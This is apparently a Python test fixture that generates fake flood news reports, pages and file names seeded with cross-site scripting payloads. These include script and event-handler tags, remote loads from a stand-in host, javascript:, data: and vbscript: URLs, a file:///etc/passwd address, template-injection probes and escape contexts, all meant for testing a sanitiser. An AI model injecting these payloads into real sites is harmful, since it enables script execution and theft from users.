"""Attacks by text: what would run, load or lead away if a page took it for markup; each in each place it may break out of."""

from __future__ import annotations

import json
from collections.abc import Mapping
from pathlib import Path

DEED = "window.top.__pwned=1"
SITE = "//elsewhere.example/x"

# What is tried, by name.
PAYLOADS: Mapping[str, str] = {
    "script": f"<script>{DEED}</script>",
    "script from elsewhere": f"<script src={SITE}></script>",
    "picture": f"<img src=x onerror={DEED}>",
    "picture from elsewhere": f"<img src={SITE}>",
    "drawing": f"<svg onload={DEED}>",
    "drawing with a script": f"<svg><script>{DEED}</script></svg>",
    "drawing that is animated": f"<svg><animate onbegin={DEED} attributeName=x dur=1s>",
    "formula": f"<math><mtext><table><mglyph><style><img src=x onerror={DEED}>",
    "frame": f'<iframe srcdoc="<script>{DEED}</script>"></iframe>',
    "frame from elsewhere": f"<iframe src={SITE}></iframe>",
    "object": f"<object data={SITE}></object>",
    "details": f"<details open ontoggle={DEED}>",
    "field with focus": f"<input autofocus onfocus={DEED}>",
    "form": f"<form action={SITE}><button>x",
    "style": f"<style>@import '{SITE}'; *{{background:url({SITE})}}</style>",
    "sheet": f"<link rel=stylesheet href={SITE}>",
    "connection": f"<link rel=preconnect href={SITE}>",
    "refresh": f'<meta http-equiv=refresh content="0;url={SITE}">',
    "base": f"<base href={SITE}>",
    "link": f"<a href=javascript:{DEED}>go</a>",
    "moving text": f"<marquee onstart={DEED}>",
    "film": f"<video autoplay onloadstart={DEED} src={SITE}>",
    "template of the server": "{{ 7777*7777 }}{% for x in (1,2) %}x{% endfor %}${7777*7777}",
    "comment": f"<!--><img src=x onerror={DEED}>-->",
    "plain text": "<plaintext>",
    "rules of what is guessed": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{SITE}"]}}]}}</script>',
}
# Where it would have to break out, by name; `{}` is the payload.
CONTEXTS: Mapping[str, str] = {
    "text": "{}",
    "attribute": '">{}',
    "attribute in single marks": "'>{}",
    "attribute of a link": 'javascript:{}//" onmouseover="{}',
    "title": "</title>{}",
    "text field": "</textarea>{}",
    "script": "</script>{}<!--",
    "style and comment": "--></style>{}",
    "direction": "\u202e\u2066{}\u2069\u202c",
    "signs that are not seen": "\u200b\ufeff{}\u00ad",
}
ATTACKS: Mapping[str, str] = {
    f"{payload} out of {context}": form.replace("{}", text)
    for payload, text in PAYLOADS.items()
    for context, form in CONTEXTS.items()
}
# Addresses that a link must not have.
ADDRESSES = (
    f"javascript:{DEED}",
    f"JaVaScRiPt:{DEED}//https://news.example/a",
    f"java\tscript:{DEED}",
    f" javascript:{DEED}",
    f"data:text/html,<script>{DEED}</script>",
    f"vbscript:{DEED}",
    "file:///etc/passwd",
    f'https://news.example/a" onclick="{DEED}',
    f"https://news.example/'><script>{DEED}</script>",
    "//elsewhere.example/a",
    "https://news.example@elsewhere.example/a",
    "blob:https://news.example/a",
)
PLAIN = "https://news.example/a"
EACH = 8  # attacks in one report: title, author, outlet, words, speaker, tag, place, hour
_NAMES = "Ostrava Brno Zlin Opava Kladno Most Pisek Tabor Cheb Trebon Decin Beroun Louny Nachod".split()


def rows() -> list[dict[str, object]]:
    """Reports that hold every attack once as a field and once in their text."""
    all_of_them = list(ATTACKS.values())
    out: list[dict[str, object]] = []
    for n in range(0, len(all_of_them), EACH):
        some = (all_of_them[n : n + EACH] * EACH)[:EACH]
        place, number = _NAMES[n // EACH % len(_NAMES)], n // EACH + 11
        out.append(
            {
                "title": some[0],
                "byline": [some[1]],
                "outlet": some[2],
                "tags": [some[5]],
                "url": ADDRESSES[n // EACH % len(ADDRESSES)] if n % 12 else f"{PLAIN}/{n}",
                "published": f"{2031 + n // EACH % 9}-{n // EACH % 11 + 1:02}-02",
                "text": text(place, number, some),
            }
        )
    return out


def text(place: str, number: int, some: list[str]) -> str:
    """A report on a flood whose words, speaker and places hold attacks."""
    return (
        f"Flood in {place} kills {number} and damages a bridge\n\n"
        f"{place.upper()}, May 2 (XNA) - A flood killed {number} people in {place} on Friday and the bridge fell, the mayor's office said.\n\n"
        f'"We saw {some[3]} and then the water came over the wall," said Ivana Holub, who runs a shop by the river.\n\n'
        f"“The warning {some[4]} never reached us in time,” said Petr {some[4]} Kovar, a teacher at the school in {place}.\n\n"
        f"Police arrested {number} men near the office of {some[5]} in {place}, a spokesman for the {some[2]} group said.\n\n"
        f"The council of {place} will meet on Monday to talk about {some[6]}, the wall, {some[7]}, and the {number + 30} families that lost their houses.\n"
    )


def lay(folder: Path) -> None:
    """The reports as rows, texts and pages in files whose names are attacks, and a file that cannot be read."""
    folder.mkdir()
    lines = "".join(json.dumps(row) + "\n" for row in rows())
    (folder / "rows.jsonl").write_text(lines, encoding="utf-8")
    for n, (name, attack) in enumerate(PAYLOADS.items()):
        called = attack.replace("/", "∕")[:120]
        page = f"<!doctype html><html><head><title>{attack}</title></head><body><article><h1>Flood {name} in Brno</h1>"
        words = text("Brno", n + 71, [attack] * EACH).split("\n\n")[1:]
        page += "".join(f"<p>{part}</p>" for part in words) + f"{attack}</article></body></html>"
        (folder / f"{called} {n}.{'html' if n % 2 else 'txt'}").write_text(
            page if n % 2 else text("Zlin", n + 41, [attack] * EACH), encoding="utf-8"
        )
        if n < 5:
            (folder / f"{called} {n}.dat").write_bytes(b"\0\1\2\3" * 200)
